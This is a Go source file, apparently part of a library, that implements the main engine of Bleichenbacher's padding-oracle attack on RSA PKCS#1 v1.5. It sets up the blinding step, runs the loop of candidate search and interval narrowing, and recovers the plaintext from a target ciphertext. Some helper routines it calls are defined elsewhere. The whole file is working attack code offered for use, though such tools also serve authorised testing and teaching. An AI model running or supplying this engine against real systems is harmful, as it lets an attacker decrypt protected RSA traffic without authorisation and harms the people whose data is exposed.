// Package bleichenbacher implements the four-step adaptive chosen-ciphertext
// search against an RSA PKCS#1 v1.5 padding-validity oracle: blinding,
// candidate search, interval narrowing and termination. It owns none of the
// I/O that surfaces a conformance answer; it only knows how to drive an
// Oracle and interpret the booleans it returns.
package bleichenbacher

import (
	"context"
	"fmt"
	"log/slog"
	"math/big"

	"github.com/paddingoracle/bleichenbacher/bblog"
	"github.com/paddingoracle/bleichenbacher/ciphertext"
	"github.com/paddingoracle/bleichenbacher/hexutil"
	"github.com/paddingoracle/bleichenbacher/oracle"
)

// Engine drives a single Bleichenbacher attack run. It is not safe for
// concurrent use; independent runs need independent Engines and oracles.
type Engine struct {
	n, e *big.Int
	k    int

	twoB, threeBminus1 *big.Int

	c  *big.Int
	c0 *big.Int
	s0 *big.Int
	sI *big.Int

	m []Interval
	i uint64

	msgIsPKCS bool

	oracle  oracle.Oracle
	builder *ciphertext.Builder
	log     bblog.Logger

	maxQueries uint64
}

// AttackResult is the engine's successful output.
type AttackResult struct {
	SolutionInt   *big.Int
	SolutionBytes []byte
	S0            *big.Int
	Iterations    uint64
	OracleQueries uint64
}

// Option configures an Engine at construction time.
type Option func(*Engine)

// WithLogger overrides the engine's default no-op logger.
func WithLogger(l bblog.Logger) Option {
	return func(e *Engine) { e.log = l }
}

// WithLogLevel is a convenience over WithLogger: it builds a text logger at
// the given minimum slog.Level (use bblog.LevelTrace for the lowest tier).
func WithLogLevel(lvl slog.Level) Option {
	return func(e *Engine) { e.log = bblog.NewTextLogger(lvl) }
}

// WithMaxQueries caps the number of oracle queries the engine will issue
// across the whole run. Exceeding it returns a *MaxQueriesExceededError
// instead of continuing to search indefinitely. Zero (the default) means
// uncapped, matching spec.md's "no intrinsic bound" policy.
func WithMaxQueries(max uint64) Option {
	return func(e *Engine) { e.maxQueries = max }
}

// NewEngine validates its inputs and returns an Engine ready for Run.
// ciphertextBytes is the target ciphertext, big-endian, at most k bytes.
// msgIsPKCS, when true, asserts the target is already known PKCS#1 v1.5
// conformant, skipping step 1 blinding.
func NewEngine(ciphertextBytes []byte, n, e *big.Int, k int, msgIsPKCS bool, orc oracle.Oracle, opts ...Option) (*Engine, error) {
	if k < 2 {
		return nil, fmt.Errorf("%w: block size %d too small to derive B = 2^(8*(k-2))", ErrInputTooLarge, k)
	}
	if minBytes := (n.BitLen() + 7) / 8; k < minBytes {
		return nil, fmt.Errorf("%w: modulus needs at least %d bytes, got k=%d", ErrInputTooLarge, minBytes, k)
	}

	c := new(big.Int).SetBytes(ciphertextBytes)
	if c.Cmp(n) >= 0 {
		return nil, fmt.Errorf("%w: ciphertext >= modulus", ErrInputTooLarge)
	}

	b := new(big.Int).Lsh(big.NewInt(1), uint(8*(k-2)))
	twoB := new(big.Int).Lsh(b, 1)
	threeBminus1 := new(big.Int).Mul(b, big.NewInt(3))
	threeBminus1.Sub(threeBminus1, big.NewInt(1))

	eng := &Engine{
		n:            n,
		e:            e,
		k:            k,
		twoB:         twoB,
		threeBminus1: threeBminus1,
		c:            c,
		msgIsPKCS:    msgIsPKCS,
		oracle:       orc,
		builder:      ciphertext.New(n, e, k, orc.IsPlaintextOracle()),
		log:          bblog.Nop,
	}
	for _, opt := range opts {
		opt(eng)
	}

	return eng, nil
}

// checkCancelled returns a non-nil error wrapping ctx.Err() iff ctx is done.
func (eng *Engine) checkCancelled(ctx context.Context) error {
	select {
	case <-ctx.Done():
		return &CancelledError{
			Cause:         ctx.Err(),
			Iteration:     eng.i,
			OracleQueries: eng.oracle.QueryCount(),
			SI:            eng.sI,
			Intervals:     eng.m,
		}
	default:
		return nil
	}
}

// checkBudget returns a non-nil *MaxQueriesExceededError iff the engine has
// a configured query budget and it has been spent.
func (eng *Engine) checkBudget() error {
	if eng.maxQueries == 0 {
		return nil
	}
	if eng.oracle.QueryCount() >= eng.maxQueries {
		return &MaxQueriesExceededError{Max: eng.maxQueries, Iterations: eng.i}
	}
	return nil
}

// Run drives the engine from Init through Blinding, Searching and Narrowing
// to Done, returning the recovered plaintext or a tagged error.
func (eng *Engine) Run(ctx context.Context) (*AttackResult, error) {
	eng.log.Info("starting attack", "k", eng.k, "msg_is_pkcs", eng.msgIsPKCS)

	if err := eng.checkCancelled(ctx); err != nil {
		return nil, err
	}

	if eng.msgIsPKCS {
		eng.s0 = big.NewInt(1)
		eng.c0 = eng.c
		if raw, err := eng.builder.PrepareRaw(eng.c0); err == nil {
			eng.log.Debug("blinding skipped, message already conformant", "c0", hexutil.Encode(raw))
		} else {
			eng.log.Debug("blinding skipped, message already conformant")
		}
	} else {
		if err := eng.blind(ctx); err != nil {
			return nil, err
		}
	}
	eng.m = []Interval{{Lo: eng.twoB, Hi: eng.threeBminus1}}
	eng.i = 1

	eng.log.Debug("blinding complete", "s0", eng.s0, "c0", eng.c0)

	for {
		if err := eng.checkCancelled(ctx); err != nil {
			return nil, err
		}

		if err := eng.search(ctx); err != nil {
			return nil, err
		}

		if err := eng.checkCancelled(ctx); err != nil {
			return nil, err
		}

		next := narrow(eng.m, eng.n, eng.sI, eng.twoB, eng.threeBminus1)
		if len(next) == 0 {
			return nil, ErrNoCandidates
		}
		eng.m = next

		eng.log.Debug("narrowed interval set", "iteration", eng.i, "count", len(eng.m))

		if len(eng.m) == 1 && eng.m[0].isSingleton() {
			return eng.finish()
		}

		eng.i++
	}
}

// finish implements step 4's successful termination: m = s0^-1 * a mod n.
func (eng *Engine) finish() (*AttackResult, error) {
	a := eng.m[0].Lo

	s0Inv := new(big.Int).ModInverse(eng.s0, eng.n)
	if s0Inv == nil {
		return nil, fmt.Errorf("%w", ErrNotInvertible)
	}

	solution := new(big.Int).Mul(s0Inv, a)
	solution.Mod(solution, eng.n)

	eng.log.Info("attack converged", "iterations", eng.i, "oracle_queries", eng.oracle.QueryCount())

	return &AttackResult{
		SolutionInt:   solution,
		SolutionBytes: solution.Bytes(),
		S0:            eng.s0,
		Iterations:    eng.i,
		OracleQueries: eng.oracle.QueryCount(),
	}, nil
}
